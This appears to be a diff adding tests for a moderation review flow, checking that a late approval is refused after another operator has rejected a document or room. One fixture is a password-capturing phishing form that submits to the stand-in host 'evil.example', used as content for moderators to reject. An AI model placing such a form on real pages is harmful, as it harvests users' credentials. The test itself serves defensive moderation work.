@@ -297,6 +297,21 @@ describe('the operator', () => {
     expect(await reportedEntry(uuid)).toContain('While looking');
   });
 
+  it('approves nothing that another operator has rejected since', async () => {
+    const { link, uuid, caller } = await publish('Two operators');
+    const html = '<form action="https://evil.example/"><input type="password"></form>';
+    await caller.send('PUT', `/documents/${uuid}/content`, { html });
+    const [version = ''] = valuesOf(await heldEntry(uuid), 'version');
+    await decide(`/review/${uuid}/reject`, { version, reason: 'No.' });
+    const late = await decide(`/review/${uuid}/approve`, { version });
+    expect([late.status, await late.text()]).toEqual([400, expect.stringContaining('This was already decided')]);
+    expect((await fetch(link)).status).toBe(403);
+    const entry = (await queue()).split('<li class="version">').find((one) => one.includes(uuid)) ?? '';
+    const [rejected = ''] = valuesOf(entry, 'rejected');
+    expect((await decide(`/review/${uuid}/approve`, { version, rejected })).status).toBe(303);
+    expect((await fetch(link)).status).toBe(200);
+  });
+
   it('sees which version a report is about', async () => {
     const { link, uuid, caller } = await publish('Changing');
     await report({ link, reason: 'other', details: 'The first' });
@@ -415,6 +430,18 @@ describe('a room', () => {
     expect((await decide(`/review/rooms/${id}/approve`, { version: await wordingOf(id) })).status).toBe(303);
     expect((await fetch(link)).status).toBe(200);
     expect(await entryOf(id)).toBe('');
+  });
+
+  it('is not approved on a page that does not show that another operator has rejected it', async () => {
+    const { id, link } = await makeRoom('Rejected twice');
+    await report({ link, ...complaint });
+    const version = await wordingOf(id);
+    await decide(`/review/rooms/${id}/reject`, { version, reason: 'No.' });
+    const late = await decide(`/review/rooms/${id}/approve`, { version });
+    expect([late.status, await late.text()]).toEqual([400, expect.stringContaining('This was already decided')]);
+    const [rejected = ''] = valuesOf(await entryOf(id), 'rejected');
+    expect((await decide(`/review/rooms/${id}/approve`, { version, rejected })).status).toBe(303);
+    expect((await fetch(link)).status).toBe(200);
   });
 
   it('is approved with the titles of its sections, in their order', async () => {
